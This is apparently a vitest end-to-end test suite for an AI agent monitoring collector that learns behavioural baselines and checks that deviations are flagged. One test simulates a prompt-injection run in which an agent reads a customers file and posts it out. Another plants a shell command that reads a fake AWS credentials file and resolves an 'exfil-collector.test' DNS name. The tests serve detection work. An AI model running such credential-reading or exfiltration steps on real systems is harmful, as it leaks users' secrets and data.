import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { parse, stringify } from 'yaml';
import { APPS, runReferenceAgent } from '../support/apps.js';
import { Collector } from '../support/collector.js';
import { startDnsResponder, type DnsResponder } from '../support/dns-responder.js';
import { Jaeger } from '../support/jaeger.js';
import { startListening } from '../support/listening.js';
import { logRecordsOf, plainAttributes } from '../support/otlp-json.js';
import { freePort } from '../support/ports.js';
import { Proc, waitFor } from '../support/process.js';
import { collectorMain, jaegerBin, requireTool, ROOT } from '../support/tools.js';
import { TraceTree } from '../support/trace-tree.js';

/**
 * Behavioural baselines on the reference scenario, with the embedded default monitoring (no per-agent
 * config: the default pipeline with Jaeger added as a second exporter): real LangChain.js and Python
 * agents, real MCP servers, the real eBPF sensor, a real Jaeger. Learn on varied normal runs, freeze
 * through the admin API, restart, then: varied normal runs raise nothing, the prompt-injection run
 * raises the unusual query, the new file and the oversized payload, each on its causing span.
 */
const jaeger = jaegerBin();
requireTool('AIBOM_SENSOR', 'bpf/.output/aibom-sensor');
if (process.getuid?.() !== 0) throw new Error('the baseline end-to-end tests need root for the eBPF sensor (CI runs as root)');
if (!existsSync(join(APPS, 'node_modules')) || !existsSync(join(APPS, 'agent-py', '.venv', 'bin', 'python'))) throw new Error('test/apps is not installed: run test/apps/setup.sh');

const LEARN_RUNS = 30;
const NORMAL_RUNS = 50;

const TOPICS = [
  'reset my password',
  'change my shipping address',
  'update my billing details',
  'track a delayed parcel',
  'cancel my subscription',
  'use a discount code',
  'return a damaged item',
  'get a copy of my invoice',
  'change the email on my account',
  'turn on two-factor login',
  'find the store opening hours',
  'pair the mobile app',
  'merge two accounts',
  'download my order history',
  'switch to yearly billing',
  'report a missing refund',
  'change my delivery slot',
  'update my phone number',
];
const LEARN_FORMS = ['How do I {t}?', 'Can you help me {t} please', 'I would like to {t}'];
const DETECT_FORMS = ['What is the way to {t}?', 'Quick question: how can I {t}', 'Please explain how to {t}'];

interface Run {
  scenario: string;
  prompt: string;
}
interface AgentOutput {
  runs: { scenario: string; traceId: string; ok: boolean; error?: string }[];
}

/** Varied normal runs: every scenario of normal work, prompts from topics x phrasings (offset so sets differ). */
function normalRuns(n: number, forms: readonly string[], scenarios: readonly string[], offset: number): Run[] {
  return Array.from({ length: n }, (_, i) => ({
    scenario: scenarios[i % scenarios.length]!,
    prompt: forms[(i + offset) % forms.length]!.replace('{t}', TOPICS[(i * 7 + offset) % TOPICS.length]!),
  }));
}

type Attrs = Record<string, unknown>;
interface DeviationRecord {
  traceId: string;
  spanId: string;
  attrs: Attrs;
}

/** The embedded default, with Jaeger as one more traces exporter (the monitoring itself unchanged). */
function defaultWithJaeger(jaegerEndpoint: string): string {
  const doc = parse(readFileSync(join(ROOT, 'otel-config', 'default.yaml'), 'utf8')) as Record<string, any>;
  doc.exporters['otlp/jaeger'] = { endpoint: jaegerEndpoint, tls: { insecure: true } };
  doc.service.pipelines.traces.exporters.push('otlp/jaeger');
  return stringify(doc);
}

/** One collector on the embedded default (plus Jaeger) with its own data directory, restartable with the same ports. */
class DefaultCollector {
  collector!: Collector;
  readonly data: string;
  private env: NodeJS.ProcessEnv = {};
  private configPath = '';
  adminUrl = '';
  otlpPort = 0;

  constructor(readonly label: string) {
    this.data = mkdtempSync(join(tmpdir(), `aibom-baseline-${label}-`));
  }

  async start(jaegerEndpoint: string): Promise<void> {
    const [grpc, http, admin] = [await freePort(), await freePort(), await freePort()];
    this.otlpPort = grpc;
    this.adminUrl = `http://127.0.0.1:${admin}`;
    this.configPath = join(this.data, 'default-with-jaeger.yaml');
    writeFileSync(this.configPath, defaultWithJaeger(jaegerEndpoint));
    this.env = { AIBOM_DATA_DIR: join(this.data, 'data'), AIBOM_OTLP_GRPC_ENDPOINT: `127.0.0.1:${grpc}`, AIBOM_OTLP_HTTP_ENDPOINT: `127.0.0.1:${http}`, AIBOM_ADMIN_ENDPOINT: `127.0.0.1:${admin}` };
    this.collector = await Collector.startWith(this.configPath, this.adminUrl, this.env);
  }

  async restart(): Promise<void> {
    await this.collector.stop();
    this.collector = await Collector.startWith(this.configPath, this.adminUrl, this.env);
  }

  async baselines(): Promise<{ id: string; component: { kind: string; name: string }; state: string; completeness: string; partialReason?: string; observations: number }[]> {
    const res = await fetch(`${this.adminUrl}/v1/baselines`);
    expect(res.status).toBe(200);
    return ((await res.json()) as { profiles: never[] }).profiles;
  }

  /** Waits until no profile's observation count moved for 4 s: the kernel spans of the last runs are in. */
  async settled(): Promise<void> {
    let last = -1;
    let since = Date.now();
    await waitFor(`${this.label}: baseline observations to stop changing`, async () => {
      const total = (await this.baselines()).reduce((n, p) => n + p.observations, 0);
      if (total !== last) [last, since] = [total, Date.now()];
      return total > 0 && Date.now() - since >= 4000 ? true : undefined;
    }, 90_000, 500);
  }

  deviations(): DeviationRecord[] {
    const file = join(this.data, 'data', 'telemetry.jsonl');
    if (!existsSync(file)) return [];
    return logRecordsOf(readFileSync(file, 'utf8'))
      .filter((r) => r.record.eventName === 'aibom.deviation')
      .map((r) => ({ traceId: String(r.record.traceId), spanId: String(r.record.spanId), attrs: plainAttributes(r.record.attributes as never) }));
  }

  async stop(): Promise<void> {
    await this.collector?.stop();
  }
}

const summary = (d: DeviationRecord) => `${String(d.attrs['aibom.deviation.rule'])} ${String(d.attrs['aibom.deviation.component.kind'])}/${String(d.attrs['aibom.deviation.component.name'])}: ${String(d.attrs['aibom.deviation.observed'])}`;

const figures: string[] = [];

describe.each([
  { lang: 'js', scenarios: ['faq', 'faq-mcp', 'ticket', 'order', 'faq', 'ticket', 'faq-mcp'] },
  { lang: 'py', scenarios: ['faq', 'faq-mcp', 'ticket', 'faq', 'ticket', 'faq-mcp'] },
])('baselines of the reference scenario ($lang), embedded default monitoring', ({ lang, scenarios }) => {
  let j: Jaeger;
  let c: DefaultCollector;
  let llm: { proc: Proc; ports: number[] };
  let services: { proc: Proc; ports: number[] };
  let dns: DnsResponder | undefined;
  // Run as users run them: the interpreter itself, no command name the sensor is told about.
  const command = lang === 'js' ? process.execPath : join(APPS, 'agent-py', '.venv', 'bin', 'python');
  const script = join(APPS, lang === 'js' ? 'agent-js/agent.mjs' : 'agent-py/agent.py');
  const secrets = mkdtempSync(join(tmpdir(), 'aibom-baseline-secrets-'));

  beforeAll(async () => {
    j = await Jaeger.start(jaeger);
    llm = await startListening(process.execPath, [join(APPS, 'fake-llm', 'server.mjs'), '--port', '0']);
    services = await startListening(process.execPath, [join(APPS, 'services.mjs')]);
    c = new DefaultCollector(lang);
    await c.start(j.otlpGrpcEndpoint);
  }, 120_000);

  afterAll(async () => {
    await c?.stop();
    await llm?.proc.stop();
    await services?.proc.stop();
    await j?.stop();
    dns?.close();
  });

  /** Runs in one agent process; OPENAI_API_KEY in its environment is what the default monitoring recognises an agent by. */
  async function agent(runs: Run[], env: NodeJS.ProcessEnv = {}): Promise<AgentOutput> {
    const out = await runReferenceAgent<AgentOutput>(command, [script], { llm, services, otlpPort: c.otlpPort }, { AGENT_RUNS: JSON.stringify(runs), OPENAI_API_KEY: 'sk-test-not-a-real-key-0000', ...env });
    for (const r of out.runs) expect(r.ok, r.error).toBe(true);
    return out;
  }

  test('learns on varied normal runs, freezes through the admin API, and a restart keeps the profiles', async () => {
    await agent(normalRuns(LEARN_RUNS, LEARN_FORMS, scenarios, 0));
    await c.settled();
    const learned = await c.baselines();
    const kinds = new Set(learned.map((p) => p.component.kind));
    expect([...kinds].sort(), JSON.stringify(learned)).toEqual(expect.arrayContaining(['agent', 'model', 'tool', 'mcp_server']));
    expect(learned.every((p) => p.state === 'learning')).toBe(true);
    expect(learned.every((p) => p.completeness === 'complete'), JSON.stringify(learned)).toBe(true);
    // Entity ids are the AI-BOM's: every profile's id is an entity of /v1/aibom.
    const bom = (await (await fetch(`${c.adminUrl}/v1/aibom`)).json()) as { components: { 'bom-ref': string }[]; services?: { 'bom-ref': string }[] };
    const refs = new Set([...bom.components, ...(bom.services ?? [])].map((x) => x['bom-ref']));
    expect(learned.filter((p) => !refs.has(p.id)).map((p) => p.id)).toEqual([]);

    const res = await fetch(`${c.adminUrl}/v1/baselines/freeze`, { method: 'POST' });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { frozen: string[] }).frozen.sort()).toEqual(learned.map((p) => p.id).sort());
    const tool = learned.find((p) => p.component.kind === 'tool' && p.component.name === 'search_kb')!;
    const yaml = await (await fetch(`${c.adminUrl}/v1/baselines/${tool.id}?format=yaml`)).text();
    expect(parse(yaml)).toMatchObject({ id: tool.id, state: 'frozen', facts: { arguments: { collection: { values: ['faq'] } } } });

    await c.restart();
    const after = await c.baselines();
    expect(after.map((p) => [p.id, p.state]).sort()).toEqual(learned.map((p) => [p.id, 'frozen']).sort());
    expect(readdirSync(join(c.data, 'data', 'baselines')).length).toBe(learned.length);
  }, 300_000);

  test(`${NORMAL_RUNS} more varied normal runs after learning raise no deviation`, async () => {
    const out = await agent(normalRuns(NORMAL_RUNS, DETECT_FORMS, scenarios, 5));
    await c.settled();
    const mine = new Set(out.runs.map((r) => r.traceId));
    const found = c.deviations();
    expect(found.map(summary), 'false positives').toEqual([]);
    expect(await c.collector.metric('aibom_deviations_total')).toBe(0);
    figures.push(`${lang}: false positives over ${NORMAL_RUNS} normal runs after learning on ${LEARN_RUNS}: ${found.filter((d) => mine.has(d.traceId)).length}`);
  }, 300_000);

  test('the prompt-injection run: the unusual query, the new file through MCP and the oversized payload, each on its causing span in Jaeger, with the chain', async () => {
    const out = await agent([{ scenario: 'attack', prompt: 'I need help with my warranty claim' }]);
    const run = out.runs[0]!;
    const want = ['tool-argument-anomaly', 'new-file', 'payload-size-anomaly'];
    const got = await waitFor('the attack deviations', () => {
      const d = c.deviations().filter((x) => x.traceId === run.traceId);
      return want.every((r) => d.some((x) => x.attrs['aibom.deviation.rule'] === r)) && d.some((x) => x.attrs['aibom.deviation.component.name'] === 'http_post' && x.attrs['aibom.deviation.rule'] === 'payload-size-anomaly') ? d : undefined;
    }, 60_000, 500).catch((err: Error) => {
      throw new Error(`${err.message}\n${c.deviations().map(summary).join('\n')}\n${c.collector.proc.tail(20)}`);
    });
    const query = got.find((d) => d.attrs['aibom.deviation.rule'] === 'tool-argument-anomaly' && d.attrs['aibom.deviation.component.name'] === 'search_kb')!;
    expect(query, got.map(summary).join('\n')).toBeDefined();
    expect(String(query.attrs['aibom.deviation.observed'])).toContain('collection=customers');
    expect(query.attrs['security_rule.category']).toBe('misuse');
    const file = got.find((d) => d.attrs['aibom.deviation.rule'] === 'new-file' && String(d.attrs['aibom.deviation.observed']).endsWith('/customers.csv'))!;
    expect(file, got.map(summary).join('\n')).toBeDefined();
    expect(file.attrs['aibom.deviation.component.kind']).toBe('mcp_server');
    const payload = got.find((d) => d.attrs['aibom.deviation.rule'] === 'payload-size-anomaly' && d.attrs['aibom.deviation.component.name'] === 'http_post')!;
    expect(payload, got.map(summary).join('\n')).toBeDefined();
    expect(Number(payload.attrs['http.request.body.size'])).toBeGreaterThan(20_000);
    for (const d of [query, file, payload]) {
      expect(String(d.attrs['aibom.chain.prompt'])).toContain('warranty claim');
      expect(d.attrs['security_rule.uuid']).toMatch(/^[0-9a-f-]{36}$/);
    }
    expect(query.attrs['aibom.chain.tool.name']).toBe('search_kb');
    expect(String(query.attrs['aibom.chain.tool.arguments'])).toContain('customers');
    expect(query.attrs['aibom.chain.llm.span_id']).toBeDefined();
    expect(file.attrs['aibom.chain.tool.name']).toBe('read_text_file');
    expect((file.attrs['aibom.chain.data'] as string[]).some((p) => p.endsWith('/customers.csv'))).toBe(true);
    expect(payload.attrs['aibom.chain.tool.name']).toBe('http_post');
    expect((payload.attrs['aibom.chain.destination'] as string[]).some((x) => x.includes(`:${services.ports[1]}/tickets`))).toBe(true);

    // In Jaeger: each `deviation <rule>` span is a child of the span that caused it, in the attack's trace.
    const tree = await waitFor('the deviation spans in Jaeger', async () => {
      const spans = await j.spans(run.traceId);
      const t = spans && new TraceTree(spans);
      return t && want.every((r) => t.spans.some((s) => s.name === `deviation ${r}`)) ? t : undefined;
    }, 30_000, 500);
    for (const d of [query, file, payload]) {
      const span = tree.spans.find((s) => s.name === `deviation ${String(d.attrs['aibom.deviation.rule'])}` && s.parentSpanId === d.spanId);
      expect(span, `deviation span under ${d.spanId}`).toBeDefined();
      const cause = tree.parent(span!)!;
      expect(cause.spanId).toBe(d.spanId);
      expect(tree.attr(span!, 'aibom.deviation.rule')).toBe(d.attrs['aibom.deviation.rule']);
    }
    expect(tree.parent(tree.spans.find((s) => s.name === 'deviation tool-argument-anomaly' && s.parentSpanId === query.spanId)!)!.name).toMatch(/(?:^| )search_kb$/);
    expect(tree.attr(tree.byId.get(file.spanId)!, 'file.path')).toMatch(/\/customers\.csv$/);
    expect(tree.attr(tree.byId.get(payload.spanId)!, 'url.path')).toBe('/tickets');

    const text = await c.collector.metricsText();
    const p = (q: number) => histogramQuantile(text, 'aibom_baseline_deviation_latency_seconds', q);
    figures.push(`${lang}: attack run deviations: ${got.map(summary).join(' | ')}`);
    figures.push(`${lang}: latency from the trace's last span to its deviations handed on (histogram bucket bounds): p50 <= ${p(0.5)} s, p99 <= ${p(0.99)} s`);
  }, 120_000);

  // The shell tool lives in our JS MCP server (the Python agent's server has none): JS only, not a skip.
  if (lang === 'js') test('a model change raises drift; a tool that spawns a shell which reads a credential and resolves an unknown name raises new executable, credential access and new egress', async () => {
    const drift = await agent([{ scenario: 'faq', prompt: 'How do I reset my password?' }], { AGENT_MODEL: 'gpt-4.1-mini' });
    await waitFor('new-model on the agent', () => c.deviations().find((d) => d.traceId === drift.runs[0]!.traceId && d.attrs['aibom.deviation.rule'] === 'new-model' && d.attrs['aibom.deviation.observed'] === 'gpt-4.1-mini'), 30_000, 500);

    dns = await startDnsResponder();
    const responder = dns.address;
    const secret = join(secrets, '.aws', 'credentials');
    mkdirSync(join(secrets, '.aws'), { recursive: true });
    writeFileSync(secret, '[default]\naws_access_key_id = AKIAEXAMPLEEXAMPLE00\n');
    const name = 'q7x2k9m4v8z3w6b1n5c0r7t2y4u8.exfil-collector.test';
    const out = await agent([{ scenario: 'diagnostics', prompt: 'Run the diagnostics please' }], {
      MCP_DIAGNOSTICS: `cat ${secret} > /dev/null; ${process.execPath} ${join(APPS, 'lib', 'dns-query.mjs')} ${name} ${responder}`,
    });
    const run = out.runs[0]!;
    const got = await waitFor('new-executable, credential-access and new-egress', () => {
      const d = c.deviations().filter((x) => x.traceId === run.traceId);
      const rules = new Set(d.map((x) => x.attrs['aibom.deviation.rule']));
      return ['new-executable', 'credential-access', 'new-egress'].every((r) => rules.has(r)) ? d : undefined;
    }, 60_000, 500).catch((err: Error) => {
      throw new Error(`${err.message}\n${c.deviations().map(summary).join('\n')}`);
    });
    expect(dns.queries).toContain(name);
    expect(got.some((d) => d.attrs['aibom.deviation.rule'] === 'credential-access' && d.attrs['aibom.deviation.observed'] === secret)).toBe(true);
    expect(got.some((d) => d.attrs['aibom.deviation.rule'] === 'new-egress' && d.attrs['aibom.deviation.observed'] === `dns:${name}`)).toBe(true);
    expect(got.some((d) => d.attrs['aibom.deviation.rule'] === 'new-executable' && /\/(?:sh|dash|bash|cat)$/.test(String(d.attrs['aibom.deviation.observed'])))).toBe(true);
    expect(got.some((d) => d.attrs['aibom.deviation.rule'] === 'new-tool' && d.attrs['aibom.deviation.observed'] === 'run_diagnostics')).toBe(true);
    figures.push(`js: diagnostics run deviations: ${got.map(summary).join(' | ')}`);
  }, 120_000);
});

describe('a corrupt profile store', () => {
  test('stops start-up with an error naming the file', async () => {
    const data = mkdtempSync(join(tmpdir(), 'aibom-baseline-corrupt-'));
    mkdirSync(join(data, 'baselines'), { recursive: true });
    const bad = join(data, 'baselines', 'tool-0123456789abcdef.json');
    writeFileSync(bad, '{"format": "aibom-collector/baseline-profile", "version": 1, "id": "tool:0123');
    const [grpc, http, admin] = [await freePort(), await freePort(), await freePort()];
    const proc = new Proc(process.execPath, [collectorMain(), 'run'], {
      env: { ...process.env, AIBOM_DATA_DIR: data, AIBOM_OTLP_GRPC_ENDPOINT: `127.0.0.1:${grpc}`, AIBOM_OTLP_HTTP_ENDPOINT: `127.0.0.1:${http}`, AIBOM_ADMIN_ENDPOINT: `127.0.0.1:${admin}` },
    });
    const code = await proc.exited;
    expect(code).not.toBe(0);
    expect(proc.stdout + proc.stderr).toContain(`baseline profile ${bad} cannot be used: not JSON`);
    expect(readFileSync(bad, 'utf8')).toContain('tool:0123'); // never reset
  }, 60_000);
});

afterAll(() => {
  if (figures.length > 0) console.log(`baseline figures:\n  ${figures.join('\n  ')}`);
});

/** Upper bucket bound holding quantile q of a Prometheus histogram (all label sets summed). */
function histogramQuantile(text: string, name: string, q: number): string {
  const buckets = new Map<string, number>();
  for (const m of text.matchAll(new RegExp(`^${name}_bucket\\{[^}]*le="([^"]+)"[^}]*\\}\\s+(\\S+)`, 'gm'))) buckets.set(m[1]!, (buckets.get(m[1]!) ?? 0) + Number(m[2]));
  const total = buckets.get('+Inf') ?? 0;
  for (const [le, n] of buckets) if (total > 0 && n >= q * total) return le;
  return 'n/a';
}
